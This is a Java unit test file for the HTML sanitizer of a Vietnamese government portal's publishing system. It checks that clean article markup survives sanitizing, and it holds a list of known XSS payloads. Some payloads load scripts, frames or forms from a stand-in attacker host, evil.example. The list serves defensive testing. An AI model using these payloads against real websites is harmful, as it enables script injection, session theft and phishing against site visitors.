package vn.govportal.publishing;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlSanitizerTest {

    private static final Set<String> ALLOWED_TAGS = Set.of("body", "p", "br", "hr", "h2", "h3", "h4", "h5", "h6",
            "blockquote", "ul", "ol", "li", "strong", "em", "b", "i", "u", "s", "sub", "sup", "table", "caption",
            "thead", "tbody", "tfoot", "tr", "th", "td", "a", "img", "figure", "figcaption");

    /** Known XSS payloads (from the OWASP cheat sheet and common filter-evasion lists). */
    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"/tep/1/a.png\" onerror=\"alert(1)\">",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<a href=\"javascript:alert(1)\">bấm</a>",
        "<a href=\"JAVASCRIPT:alert(1)\">bấm</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">bấm</a>",
        "<a href=\"&#14;  javascript:alert(1)\">bấm</a>",
        "<a href=\"vbscript:msgbox(1)\">bấm</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">bấm</a>",
        "<a href=\"https://example.org\" onclick=\"alert(1)\">bấm</a>",
        "<a href=\"https://example.org\" onmouseover=alert(1)>bấm</a>",
        "<body onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input name=p><button>Gửi</button></form>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">lớp phủ</div>",
        "<p style=\"display:none\">ẩn</p>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<td background=\"javascript:alert(1)\">x</td>",
        "<input type=\"image\" src=\"javascript:alert(1)\">",
        "<video><source onerror=\"alert(1)\"></video>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "\"><script>alert(1)</script>",
        "<p title=\"</p><script>alert(1)</script>\">x</p>",
        "<!--<script>alert(1)</script>-->",
        "<img src=\"https://evil.example/track.gif\">",
        "<img src=\"/tep/1/a.png?w=960&amp;next=javascript:alert(1)\">",
        "<img src=\"/tep/1/a.png?callback=alert\">",
        "<a href=\"https://example.org\" target=\"_top\" class=\"overlay\" id=\"main\">x</a>",
    })
    void removesEverythingThatCouldRunOrHide(String payload) {
        String clean = HtmlSanitizer.clean("<p>Trước</p>" + payload + "<p>Sau</p>");

        for (Element element : Jsoup.parseBodyFragment(clean).body().getAllElements()) {
            assertThat(ALLOWED_TAGS).as(clean).contains(element.tagName());
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).as(clean).doesNotStartWith("on").isNotIn("style", "class", "id", "target");
                String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
                assertThat(value).as(clean).doesNotContain("javascript:").doesNotContain("vbscript:").doesNotContain("data:");
            }
            if (element.tagName().equals("img")) {
                assertThat(element.attr("src")).as(clean).matches(".*/tep/\\d+/.+");
            }
        }
        assertThat(clean).startsWith("<p>Trước</p>"); // the text around a payload stays; an unclosed payload may swallow what follows
    }

    @Test
    void keepsTheMarkupArticlesUse() {
        String html = "<h2>Mục tiêu</h2><p>Văn bản <strong>đậm</strong>, <em>nghiêng</em> và "
                + "<a href=\"https://dongnai.gov.vn/van-ban\">liên kết</a>, <a href=\"mailto:songoaivu@dongnai.gov.vn\">thư</a>, "
                + "<a href=\"/bai-viet/tin-khac\">tin khác</a>.</p>"
                + "<ul><li>Một</li><li>Hai</li></ul><ol><li>Ba</li></ol>"
                + "<table><thead><tr><th>Năm</th><th>Số đoàn</th></tr></thead><tbody><tr><td>2026</td><td>12</td></tr></tbody></table>"
                + "<figure><img src=\"/tep/5/hoi-nghi.jpg\" alt=\"Hội nghị\" width=\"960\" height=\"540\"><figcaption>Toàn cảnh</figcaption></figure>"
                + "<blockquote>Trích dẫn</blockquote>";

        String clean = HtmlSanitizer.clean(html);

        assertThat(clean)
                .contains("<h2>Mục tiêu</h2>")
                .contains("<strong>đậm</strong>")
                .contains("<em>nghiêng</em>")
                .contains("<a href=\"https://dongnai.gov.vn/van-ban\" rel=\"noopener noreferrer\">liên kết</a>")
                .contains("<a href=\"mailto:songoaivu@dongnai.gov.vn\">thư</a>")
                .contains("<a href=\"/bai-viet/tin-khac\">tin khác</a>")
                .contains("<ul><li>Một</li><li>Hai</li></ul>")
                .contains("<th>Số đoàn</th>")
                .contains("<img src=\"/tep/5/hoi-nghi.jpg\" alt=\"Hội nghị\" width=\"960\" height=\"540\">")
                .contains("<figcaption>Toàn cảnh</figcaption>")
                .contains("<blockquote>Trích dẫn</blockquote>");
    }

    @Test
    void cleansTextPastedFromWord() {
        String word = "<p class=\"MsoNormal\" style=\"margin-bottom:0cm;line-height:normal\">"
                + "<span lang=\"VI\" style=\"font-size:14.0pt;font-family:'Times New Roman',serif\">Kính gửi các sở, ngành</span>"
                + "<o:p></o:p></p><!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->";

        assertThat(HtmlSanitizer.clean(word)).isEqualTo("<p>Kính gửi các sở, ngành</p>");
    }

    @Test
    void imagesFromTheLibraryKeepTheirScaledCopyAndAlwaysHaveATextAlternative() {
        String clean = HtmlSanitizer.clean("<p><img src=\"/govportal/tep/7/cai-cach.jpg?w=960\"></p>"
                + "<p><img src=\"/tep/8/hop-tac.jpg?w=480\" alt=\"Ký kết hợp tác\"></p>");

        assertThat(clean).isEqualTo("<p><img src=\"/govportal/tep/7/cai-cach.jpg?w=960\" alt=\"\"></p>"
                + "<p><img src=\"/tep/8/hop-tac.jpg?w=480\" alt=\"Ký kết hợp tác\"></p>");
    }

    /** Restoring a revision cleans its body again: that must give back exactly what was saved. */
    @ParameterizedTest
    @ValueSource(strings = {
        "<h2>Mục tiêu</h2><p>Nâng cao <strong>nhận thức</strong> và <em>trách nhiệm</em>.</p><ul><li>Một</li><li>Hai</li></ul>",
        "<table><caption>Lịch</caption><thead><tr><th scope=\"col\">Ngày</th></tr></thead><tbody><tr><td colspan=\"2\">Thứ Hai</td></tr></tbody></table>",
        "<p><a href=\"https://dongnai.gov.vn\">Cổng tỉnh</a> · <a href=\"mailto:songoaivu@dongnai.gov.vn\">thư</a> · <a href=\"/bai-viet/x\">bài</a></p>",
        "<figure><img src=\"/tep/5/hoi-nghi.jpg?w=960\"><figcaption>Toàn cảnh</figcaption></figure><blockquote>Trích</blockquote>",
        "<p class=\"MsoNormal\" style=\"margin:0\"><span style=\"font-size:14pt\">Kính gửi</span><o:p></o:p></p><script>x</script>",
        "<p>a &amp; b &lt; c — “trích” <br>dòng mới</p><p>&nbsp;</p>",
    })
    void cleaningTwiceChangesNothing(String html) {
        String once = HtmlSanitizer.clean(html);

        assertThat(HtmlSanitizer.clean(once)).isEqualTo(once);
    }

    @Test
    void emptyInputIsEmpty() {
        assertThat(HtmlSanitizer.clean(null)).isEmpty();
        assertThat(HtmlSanitizer.clean("   ")).isEmpty();
    }
}
